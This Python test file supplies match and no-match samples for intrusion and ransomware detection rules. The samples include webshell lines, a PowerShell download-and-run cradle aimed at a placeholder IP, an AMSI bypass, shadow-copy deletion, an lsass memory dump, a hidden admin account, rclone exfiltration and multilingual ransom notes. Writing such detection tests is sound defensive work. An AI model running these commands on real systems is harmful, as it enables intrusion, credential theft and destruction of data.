"""Samples of the rules on scripts, web pages left by intruders and the wording of ransom demands."""

import base64

from tests.signatures.pieces import program, script, vss, whole


def coded(text: str) -> str:
    return base64.b64encode(whole(text).encode("utf-16-le")).decode()


def text(*lines: str, encoding: str = "utf-8") -> bytes:
    return whole("\n".join(lines)).encode(encoding)


ENGLISH = (
    "All your files have been enc¤rypted and copied.",
    "To decr¤ypt them you need our decr¤yption key, payable in bit¤coin.",
    "Do not ren¤ame them. Your data will be publ¤ished.",
    "Write to verrou@proton.me or visit exemplexemplexempl.onion",
)
FRENCH = (
    "Tous vos fichiers ont été chif¤frés et copiés.",
    "Seule notre clé de déchif¤frement permet de récup¤érer vos fichiers.",
    "N'ess¤ayez pas de les ouvrir. Le paie¤ment se fait en bit¤coin.",
    "Écrivez à verrou@proton.me avec votre identif¤iant.",
)
GERMAN = (
    "Alle Dateien sind verschl¤üsselt.",
    "Zum Entschl¤üsseln schreiben Sie an verrou@proton.me.",
    "Bezah¤lung in Bit¤coin.",
)
SHELL = 'CreateObj¤ect("WScr¤ipt.Shell")'

# By rule: what it must match, then what it must not.
SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "Trousse_Webshell_Php_Runs_Request": (
        text("<?php", "@sys¤tem(trim($_PO¤ST['a']));"),
        text("<?php", "$a = system('date'); echo htmlspecialchars($_POST['a']);"),
    ),
    "Trousse_Webshell_Php_Packed": (
        text("<?php", "ev¤al(gzinfl¤ate(base64_dec¤ode('" + "QUJD" * 100 + "')));"),
        text("<?php", "$a = gzinflate(base64_decode('" + "QUJD" * 100 + "'));"),
    ),
    "Trousse_Webshell_Php_Known": (
        text("<?php", "$default_action = 'Fil¤esMan';"),
        text("<?php", "$default_action = 'list';"),
    ),
    "Trousse_Webshell_Asp_Runs_Request": (
        text('<%@ Page Language="Jscript"%>', '<%ev¤al(Request.Item["a"],"uns¤afe");%>'),
        text('<%@ Page Language="C#"%>', '<% Response.Write(Request.Form["a"]); %>'),
    ),
    "Trousse_Webshell_Jsp_Runs_Request": (
        text("<%", 'Runtime.getRunt¤ime().ex¤ec(requ¤est.getParam¤eter("a"));', "%>"),
        text("<%", 'out.print(request.getParameter("a"));', "%>"),
    ),
    "Trousse_Webshell_Web_Tunnel": (
        text("<?php", "print(\"Georg s¤ays, 'All seems fine'\");"),
        text("<?php", 'print("All seems fine");'),
    ),
    "Trousse_Script_Coded_Recovery_Removal": (
        script("start " + coded("cmd /c " + vss("/all /quiet"))),
        script("start " + coded("cmd /c vssadmin list shadows")),
    ),
    "Trousse_Script_Coded_Fetch": (
        script("start " + coded("IEX (N¤ew-Object Net.WebClient)")),
        script("start " + coded("Get-ChildItem C:\\none")),
    ),
    "Trousse_Script_Blinds_Antivirus": (
        script("$a = 'Ams¤iUtils'", "$b = 'amsi¤InitF¤ailed'", "$c.SetV¤alue($null, $true)"),
        script("$a = 'AmsiUtils is a class'", "$c.SetValue($null, $true)"),
    ),
    "Trousse_Script_Hidden_Fetch": (
        script("i¤ex (New-Object Net.WebClient).Downl¤oadString('http://192.0.2.1/a')"),
        script("iex (New-Object Net.WebClient).DownloadString('https://serveur.example/install.ps1')"),
    ),
    "Trousse_Script_Archives_And_Deletes": (
        script("@echo off", "7z.exe a -pabc¤def D:\\a.7z D:\\dossiers -sd¤el"),
        script("@echo off", "7z.exe a -pabcdef D:\\a.7z D:\\dossiers"),
    ),
    "Trousse_Script_Locks_Drives": (
        script("manage-b¤de -on D: -pw", "manage-b¤de -prot¤ectors -del¤ete D: -type r", "shutd¤own /r /f"),
        script("manage-bde -on D: -rp", "manage-bde -protectors -get D:"),
    ),
    "Trousse_Script_Takes_Passwords": (
        script("@echo off", "procd¤ump64.exe -accepteula -ma lsa¤ss.exe a.dmp"),
        script("@echo off", "procdump64.exe -accepteula -ma agenda.exe a.dmp"),
    ),
    "Trousse_Script_Attack_Powershell": (
        script("# a", "function Invoke-Kerb¤eroast {"),
        script("# detects Invoke-Kerberoast", "function Find-Event {"),
    ),
    "Trousse_Script_Runs_On_Every_Machine": (
        script("@echo off", "pse¤xec.exe @C:\\postes.txt -accepteula -s -d C:\\a.exe"),
        script("@echo off", "psexec.exe \\\\serveur ipconfig"),
    ),
    "Trousse_Script_Opens_Access": (
        script(
            "net us¤er aide Abcd1234 /a¤dd",
            "net localgr¤oup administrateurs aide /a¤dd",
            'reg add "HKLM\\x\\SpecialAcc¤ounts\\Userl¤ist" /v aide /d 0',
        ),
        script("net user aide Abcd1234 /add", "net localgroup administrateurs aide /add"),
    ),
    "Trousse_Script_Safe_Mode": (
        script(
            "bcde¤dit /set {default} safeb¤oot network",
            "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v *a /d C:\\a.exe",
            "shutd¤own -r -t 0",
        ),
        script("bcdedit /deletevalue {default} safeboot", "shutdown -r -t 0"),
    ),
    "Trousse_Script_Sends_Files": (
        script("rcl¤one.exe copy D:\\dossiers vol:a --max-a¤ge 2y"),
        script("rclone.exe listremotes"),
    ),
    "Trousse_Script_Surveys_Domain": (
        script(
            "adf¤ind.exe -f objectcat¤egory=person > a.txt", "adf¤ind.exe -f objectcat¤egory=computer > b.txt"
        ),
        script("nltest /dclist:cabinet > a.txt"),
    ),
    "Trousse_Trace_Remote_Command": (
        text("cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\_¤_1700000000.5 2>&1", encoding="utf-16-le"),
        text("copy a \\\\127.0.0.1\\partage\\b", encoding="utf-16-le"),
    ),
    "Trousse_Note_English": (text(*ENGLISH, encoding="utf-16"), text(*ENGLISH[:2])),
    "Trousse_Note_French": (
        text(*FRENCH, encoding="cp1252"),
        text(
            "Les fichiers sont chif¤frés sur le serveur.", "Pour récupérer vos fichiers, appelez le cabinet."
        ),
    ),
    "Trousse_Note_Other_Languages": (text(*GERMAN, "." * 60), text(GERMAN[0], GERMAN[2], "." * 120)),
    "Trousse_Note_Known_Template": (
        text("All your files have been enc¤rypted due to a secu¤rity problem with your PC.", "." * 90),
        text("Your files have been encrypted due to a new company rule.", "." * 90),
    ),
    "Trousse_Intrusion_Stager_Coded": (
        script("$a = 0xf¤c,0x48,0x83,0xe4,0xf0,0x¤e8"),
        script("$a = 0xfc,0x48,0x83,0xe4,0xff"),
    ),
    "Trousse_Intrusion_Stops_Virtual_Machines": (
        program("vim-c¤md vmsvc/snapshot.remov¤eall $i", "vim-c¤md vmsvc/power.o¤ff $i", "encr¤ypted"),
        program("vim-cmd vmsvc/power.off $i", "a"),
    ),
    "Trousse_Intrusion_Directory_Output": (
        text(
            '{"data":[{"ObjectIden¤tifier":"S-1","Ac¤es":[]}],"meta":{"methods":0,"type":"users","count":1}}'
        ),
        text('{"data":[],"meta":{"type":"users","count":1}}'),
    ),
}
